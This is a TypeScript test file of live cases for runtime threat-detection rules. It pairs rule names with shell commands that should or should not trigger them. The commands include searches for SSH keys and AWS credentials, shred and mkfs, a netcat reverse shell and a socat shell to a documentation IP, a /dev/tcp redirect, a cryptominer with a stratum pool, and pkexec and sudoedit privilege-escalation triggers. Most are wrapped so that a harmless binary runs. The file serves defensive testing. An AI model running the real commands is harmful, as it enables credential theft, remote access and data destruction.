/** Programs that are started, whose names, arguments, parents or places give them away. */

import type { LiveCase } from '../live-case.ts';
import { quoted } from '../shell-text.ts';

const searches: readonly LiveCase[] = [
  {
    name: 'by find',
    rule: 'Search Private Keys or Passwords',
    run: 'find . -name id_rsa; :',
    fields: {
      'proc.name': 'find',
      'proc.cmdline': 'find . -name id_rsa',
      'proc.pname': 'bash',
      'evt.type': 'execve',
      'evt.arg.flags': /EXE_WRITABLE/u,
      'proc.exepath': /\/bin\/find$/u,
      'user.name': 'root',
    },
  },
  {
    name: 'by grep',
    rule: 'Search Private Keys or Passwords',
    run: 'grep -r "BEGIN RSA PRIVATE" .; :',
    fields: { 'proc.cmdline': 'grep -r BEGIN RSA PRIVATE .' },
  },
  {
    name: 'something else',
    rule: 'Search Private Keys or Passwords',
    quiet: true,
    run: 'find . -name notes; grep -r notes .',
  },
  {
    name: 'by find',
    rule: 'Find AWS Credentials',
    run: 'find . -path ./.aws/credentials; :',
    fields: { 'proc.cmdline': 'find . -path ./.aws/credentials', 'proc.cwd': '{folder}/' },
  },
  {
    name: 'by grep',
    rule: 'Find AWS Credentials',
    run: 'grep -ri aws_access_key_id .; :',
    fields: { 'proc.name': 'grep', 'proc.pcmdline': /^bash/u, 'group.gid': 0 },
  },
  {
    name: 'on a terminal',
    rule: 'Basic Interactive Reconnaissance',
    run: 'script --quiet --return --command "exec id" /dev/null',
    fields: { 'proc.name': 'id', 'proc.tty': { above: 0 } },
  },
  {
    name: 'without a terminal',
    rule: 'Basic Interactive Reconnaissance',
    quiet: true,
    run: 'id',
  },
];

const tools: readonly LiveCase[] = [
  {
    name: 'shred',
    rule: 'Remove Bulk Data from Disk',
    run: 'echo secret >notes; shred notes',
    fields: { 'proc.cmdline': 'shred notes' },
  },
  {
    name: 'a file system over what was there',
    rule: 'Remove Bulk Data from Disk',
    run: 'as mkfs true /dev/sdz',
    fields: { 'proc.name': 'mkfs', 'proc.exepath': /\/bin\/true$/u },
  },
  {
    name: 'a new user',
    rule: 'User mgmt binaries',
    run: 'as useradd true mallory',
    fields: { 'proc.cmdline': 'useradd mallory', 'container.id': 'host' },
  },
  {
    name: 'a question about a password',
    rule: 'User mgmt binaries',
    quiet: true,
    run: 'as passwd true -S root',
  },
  {
    name: 'in capitals',
    rule: 'Program run with disallowed http proxy env',
    run: 'HTTP_PROXY=http://203.0.113.9:3128 as curl true http://example.test',
    fields: {
      'proc.name': 'curl',
      'proc.env': /HTTP_PROXY=http:\/\/203\.0\.113\.9:3128/u,
    },
  },
  {
    name: 'in small letters',
    rule: 'Program run with disallowed http proxy env',
    run: 'http_proxy=x as wget true',
    fields: { 'proc.name': 'wget' },
  },
  {
    name: 'none',
    rule: 'Program run with disallowed http proxy env',
    quiet: true,
    run: 'as curl true http://example.test',
  },
  {
    name: 'of the dynamic linker',
    rule: 'Potential Local Privilege Escalation via Environment Variables Misuse',
    run: 'GLIBC_TUNABLES=glibc.malloc.check=1 true; GLIBC_TUNABLES=a env true',
    fields: { 'proc.env': /GLIBC_TUNABLES=/u },
  },
  {
    name: 'socat',
    rule: 'Launch Suspicious Network Tool on Host',
    run: 'as socat true - TCP:203.0.113.9:4444',
    fields: { 'proc.cmdline': 'socat - TCP:203.0.113.9:4444', 'container.name': 'host' },
  },
  {
    name: 'netcat with a shell',
    rule: 'Netcat/Socat Remote Code Execution on Host',
    run: 'as nc true -e /bin/sh 203.0.113.9 4444',
    fields: { 'proc.cmdline': 'nc -e /bin/sh 203.0.113.9 4444' },
  },
  {
    name: 'socat with a shell',
    rule: 'Netcat/Socat Remote Code Execution on Host',
    run: 'as socat true TCP:203.0.113.9:4444 EXEC:/bin/sh',
    fields: { 'proc.name': 'socat' },
  },
  {
    name: 'netcat that only listens',
    rule: 'Netcat/Socat Remote Code Execution on Host',
    quiet: true,
    run: 'as nc true -l 4444',
  },
  {
    name: 'by its name',
    rule: 'Known Cryptominer Process Executed',
    run: 'as xmrig true --donate-level=1',
    fields: { 'proc.name': 'xmrig', 'proc.pname': 'bash' },
  },
  {
    name: 'by its pool',
    rule: 'Detect crypto miners using the Stratum protocol',
    run: 'as quiet true -o stratum+tcp://pool.example.test:3333',
    fields: { 'proc.cmdline': 'quiet -o stratum+tcp://pool.example.test:3333' },
  },
  {
    name: 'sudoedit with a backslash at the end',
    rule: 'Sudo Potential Privilege Escalation',
    run: String.raw`as sudoedit true -s '\'`,
    fields: { 'proc.cmdline': String.raw`sudoedit -s \ `.trimEnd() },
  },
  {
    name: 'sudoedit of a file',
    rule: 'Sudo Potential Privilege Escalation',
    quiet: true,
    run: 'as sudoedit true notes',
  },
  {
    name: 'pkexec without arguments',
    rule: 'Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)',
    run: 'as pkexec true',
    fields: { 'proc.name': 'pkexec', 'proc.args': '' },
  },
  {
    name: 'pkexec with arguments',
    rule: 'Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)',
    quiet: true,
    run: 'as pkexec true --version',
  },
];

/** A program of that name starts the command, and lives until it ends. */
function below(parent: string, ...command: readonly string[]): string {
  const list = command.map((word) => JSON.stringify(word)).join(', ');
  return `as ${parent} perl -e ${quoted(`system(${list}); exit 0`)}`;
}

const lineages: readonly LiveCase[] = [
  {
    name: 'below a web server',
    rule: 'Run shell untrusted',
    run: below('httpd', 'bash', '-c', ': shell'),
    fields: {
      'proc.name': 'bash',
      'proc.pname': 'httpd',
      'proc.cmdline': 'bash -c : shell',
      'proc.pcmdline': /^httpd -e /u,
      'proc.aname[2]': 'bash',
      'proc.pexe': '{folder}/httpd',
    },
  },
  {
    name: 'below a shell of a web server',
    rule: 'Run shell untrusted',
    run: below('nginx', 'perl', '-e', 'system("bash", "-c", ": shell")'),
    fields: { 'proc.pname': 'perl', 'proc.aname[2]': 'nginx' },
  },
  {
    name: 'below a program that may',
    rule: 'Run shell untrusted',
    quiet: true,
    run: below('cron', 'bash', '-c', ': shell'),
  },
  {
    name: 'below a database',
    rule: 'DB program spawned process',
    run: below('mysqld', 'id'),
    fields: { 'proc.name': 'id', 'proc.pname': 'mysqld' },
  },
  {
    name: 'a database below a database',
    rule: 'DB program spawned process',
    quiet: true,
    run: `ln -s "$(type -P true)" postgres; ${below('mysqld', './postgres')}`,
  },
  {
    name: 'below PHP',
    rule: 'Web Server Spawned Shell',
    run: below('php-fpm', 'bash', '-c', ': shell'),
    fields: { 'proc.name': 'bash', 'proc.pname': 'php-fpm' },
  },
  {
    name: 'a check of the health',
    rule: 'Web Server Spawned Shell',
    quiet: true,
    run: below('php-fpm', 'bash', '-c', ': healthcheck'),
  },
  {
    name: 'who it is',
    rule: 'Web Server Spawned Suspicious Child Process',
    run: below('apache2', 'id'),
    fields: { 'proc.name': 'id', 'proc.pname': 'apache2' },
  },
  {
    name: 'something harmless',
    rule: 'Web Server Spawned Suspicious Child Process',
    quiet: true,
    run: below('apache2', 'true'),
  },
  {
    name: 'by a path of bash',
    rule: 'Reverse Shell from Web Server',
    run: below('gunicorn', 'bash', '-c', ': >/dev/tcp/127.0.0.1/1'),
    fields: { 'proc.pname': 'gunicorn', 'proc.cmdline': /\/dev\/tcp\//u },
  },
  {
    name: 'a user that never logs in',
    rule: 'System user interactive',
    run: `cd /; ${below('sshd', 'setpriv', '--reuid=daemon', '--clear-groups', 'id')}`,
    fields: { 'proc.name': 'id', 'user.name': 'daemon', 'user.uid': 1 },
  },
  {
    name: 'root',
    rule: 'System user interactive',
    quiet: true,
    run: below('sshd', 'id'),
  },
];

const places: readonly LiveCase[] = [
  {
    name: 'by its path',
    rule: 'Execution from /dev/shm',
    run: 'private /dev/shm; cp "$(type -P true)" /dev/shm/tool; /dev/shm/tool; :',
    fields: { 'proc.exepath': '/dev/shm/tool', 'proc.name': 'tool', 'proc.pname': 'bash' },
  },
  {
    name: 'by a relative path',
    rule: 'Execution from /dev/shm',
    run: 'private /dev/shm; cp "$(type -P true)" /dev/shm/tool; cd /dev/shm; ./tool',
    fields: { 'proc.exepath': '/dev/shm/tool', 'proc.cwd': '/dev/shm/' },
  },
  {
    name: 'a script for a shell',
    rule: 'Execution from /dev/shm',
    run: 'private /dev/shm; echo : >/dev/shm/script; bash /dev/shm/script',
    fields: { 'proc.cmdline': 'bash /dev/shm/script' },
  },
  {
    name: 'from elsewhere',
    rule: 'Execution from /dev/shm',
    quiet: true,
    run: 'cp /bin/true .; ./true',
  },
];

export const cases: readonly LiveCase[] = [...searches, ...tools, ...lineages, ...places];
